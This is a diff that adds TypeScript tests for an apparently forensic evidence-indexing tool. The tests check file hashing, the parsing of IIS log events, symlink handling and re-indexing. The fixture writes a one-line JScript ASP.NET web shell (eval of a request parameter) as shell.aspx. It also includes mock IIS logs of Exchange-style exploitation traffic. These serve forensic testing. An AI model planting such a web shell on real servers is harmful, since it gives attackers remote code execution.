@@ -1,0 +1,110 @@
+import assert from 'node:assert/strict';
+import { execFileSync } from 'node:child_process';
+import fs from 'node:fs';
+import path from 'node:path';
+import { test } from 'node:test';
+import { openCaseDb } from '../../../electron/case/db.ts';
+import { IndexCoordinator } from '../../../electron/ingest/coordinator.ts';
+import { CaseService } from '../../../electron/service.ts';
+import { tmpDir } from '../../helpers/tmp.ts';
+
+const IIS = [
+  '#Software: Microsoft Internet Information Services 10.0',
+  '#Version: 1.0',
+  '#Date: 2021-03-02 00:00:01',
+  '#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken',
+  '2021-03-02 02:11:32 10.0.0.5 POST /owa/auth/shell.aspx - 443 - 165.232.154.116 python-requests/2.25.1 - 200 0 0 31',
+  '2021-03-02 02:12:02 10.0.0.5 GET /owa/auth/logon.aspx url=%2fowa%2f 443 - 10.0.0.20 Mozilla/5.0+(Windows+NT+10.0) - 200 0 0 15',
+  '2021-03-02 02:13:40 10.0.0.5 POST /ecp/y.js - 443 - 165.232.154.116 ExchangeServicesClient/0.0.0.0 - 200 0 0 46',
+  '',
+].join('\r\n');
+
+function makeEvidence(root: string): void {
+  const w3 = path.join(root, 'C/inetpub/logs/LogFiles/W3SVC1');
+  fs.mkdirSync(w3, { recursive: true });
+  fs.writeFileSync(path.join(w3, 'u_ex210302.log'), IIS);
+  const web = path.join(root, 'C/inetpub/wwwroot/aspnet_client');
+  fs.mkdirSync(web, { recursive: true });
+  fs.writeFileSync(path.join(web, 'shell.aspx'), '<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>');
+  fs.writeFileSync(path.join(root, 'C/empty.txt'), '');
+  fs.symlinkSync('.', path.join(root, 'C/loop'));
+  fs.symlinkSync('/etc', path.join(root, 'C/outside'));
+  for (const f of ['C/inetpub/logs/LogFiles/W3SVC1/u_ex210302.log', 'C/inetpub/wwwroot/aspnet_client/shell.aspx', 'C/empty.txt']) {
+    fs.utimesSync(path.join(root, f), new Date('2021-03-03T04:05:06Z'), new Date('2021-03-02T02:10:00Z'));
+  }
+}
+
+async function indexOnce(casePath: string): Promise<ReturnType<IndexCoordinator['run']>> {
+  return new IndexCoordinator({ casePath, detect: false, workers: 1 }).run();
+}
+
+test('indexes a small evidence folder: hashes equal sha256sum, IIS lines and file times become events, links are not followed', async (t) => {
+  const dir = tmpDir(t);
+  const ev = path.join(dir, 'evidence');
+  makeEvidence(ev);
+  const casePath = path.join(dir, 'case.loupe');
+  const svc = new CaseService();
+  await svc.createCase({ path: casePath });
+  await svc.addEvidence({ root: ev });
+  svc.close();
+
+  const s = await indexOnce(casePath);
+  assert.equal(s.filesSeen, 3);
+  assert.equal(s.filesIndexed, 3);
+  const db = openCaseDb(casePath, { readonly: true });
+  const bySource = Object.fromEntries((db.prepare('SELECT source, count(*) AS n FROM events GROUP BY source').all() as Array<{ source: string; n: number }>).map((r) => [r.source, r.n]));
+  assert.equal(bySource.iis, 3);
+  const hasBirth = (db.prepare('SELECT count(*) AS n FROM files WHERE btime IS NOT NULL').get() as { n: number }).n;
+  assert.equal(bySource.filesystem, 3 * 2 + hasBirth);
+  const files = db.prepare('SELECT rel_path, orig_path, sha256, md5, sha1, kind, state FROM files ORDER BY rel_path').all() as Array<Record<string, string>>;
+  for (const f of files) {
+    const expected = execFileSync('sha256sum', [path.join(ev, f.rel_path)]).toString().split(' ')[0];
+    assert.equal(f.sha256, expected, f.rel_path);
+    assert.equal(f.md5, execFileSync('md5sum', [path.join(ev, f.rel_path)]).toString().split(' ')[0]);
+    assert.equal(f.state, 'done');
+  }
+  assert.equal(files.find((f) => f.rel_path.endsWith('shell.aspx'))!.orig_path, 'C:\\inetpub\\wwwroot\\aspnet_client\\shell.aspx');
+  const warnings = (db.prepare('SELECT file, message FROM warnings ORDER BY file').all() as Array<{ file: string; message: string }>);
+  assert.deepEqual(warnings.map((w) => w.file), ['C/loop', 'C/outside']);
+  assert.match(warnings[0].message, /symbolic link not followed/);
+  const ev1 = db.prepare("SELECT ts, line, offset, ip, status, url FROM events WHERE source = 'iis' ORDER BY line").get() as Record<string, number | string>;
+  assert.deepEqual(ev1, { ts: Date.UTC(2021, 2, 2, 2, 11, 32) * 1000, line: 5, offset: IIS.indexOf('2021-03-02 02:11:32'), ip: '165.232.154.116', status: 200, url: '/owa/auth/shell.aspx' });
+  const mod = db.prepare("SELECT ts FROM events WHERE source = 'filesystem' AND ts_desc = 'File Modified' AND message LIKE '%shell.aspx%'").get() as { ts: number };
+  assert.equal(mod.ts, Date.UTC(2021, 2, 2, 2, 10, 0) * 1000);
+  db.close();
+});
+
+test('indexing twice adds nothing; a changed file is re-read; a removed file leaves the case', async (t) => {
+  const dir = tmpDir(t);
+  const ev = path.join(dir, 'evidence');
+  makeEvidence(ev);
+  const casePath = path.join(dir, 'case.loupe');
+  const svc = new CaseService();
+  await svc.createCase({ path: casePath });
+  await svc.addEvidence({ root: ev });
+  svc.close();
+  const count = (): { events: number; fts: number; files: number; warnings: number } => {
+    const db = openCaseDb(casePath, { readonly: true });
+    const n = (sql: string): number => (db.prepare(sql).get() as { n: number }).n;
+    const r = { events: n('SELECT count(*) AS n FROM events'), fts: n("SELECT count(*) AS n FROM events_fts WHERE events_fts MATCH '\"2021\" OR \"bytes\" OR \"POST\" OR \"GET\"'"), files: n('SELECT count(*) AS n FROM files'), warnings: n('SELECT count(*) AS n FROM warnings') };
+    db.close();
+    return r;
+  };
+  await indexOnce(casePath);
+  const first = count();
+  const again = await indexOnce(casePath);
+  assert.equal(again.eventsAdded, 0);
+  assert.equal(again.filesUnchanged, 3);
+  assert.deepEqual(count(), first);
+
+  const log = path.join(ev, 'C/inetpub/logs/LogFiles/W3SVC1/u_ex210302.log');
+  fs.appendFileSync(log, '2021-03-02 02:14:00 10.0.0.5 POST /owa/auth/shell.aspx - 443 - 165.232.154.116 python-requests/2.25.1 - 200 0 0 12\r\n');
+  const changed = await indexOnce(casePath);
+  assert.equal(changed.filesIndexed, 1);
+  assert.equal(count().events, first.events + 1);
+
+  fs.rmSync(path.join(ev, 'C/empty.txt'));
+  const removed = await indexOnce(casePath);
+  assert.equal(removed.filesRemoved, 1);
+  assert.equal(count().files, 2);
+});
